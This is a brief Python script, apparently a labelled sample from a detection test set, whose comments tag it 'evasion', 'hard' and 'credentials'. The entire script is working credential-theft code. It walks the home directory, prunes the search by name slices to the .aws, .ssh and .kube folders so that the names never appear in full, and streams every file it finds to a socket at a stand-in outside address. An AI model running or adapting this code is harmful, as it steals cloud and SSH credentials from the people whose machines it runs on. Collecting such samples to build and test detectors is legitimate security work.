# evasion: os.walk over $HOME with the directory list pruned by name slices (d[1:] in ("aws", "ssh", "kube")); each file read is streamed to a socket
# grade: hard; does: credentials
import os
import socket

home = os.environ["HOME"]
out = socket.create_connection(("203.0.113.42", 443))
for root, dirs, files in os.walk(home):
    dirs[:] = [d for d in dirs if d[1:] in ("aws", "ssh", "kube")]
    for f in files:
        with open(os.path.join(root, f), "rb") as fh:
            out.sendall(fh.read())
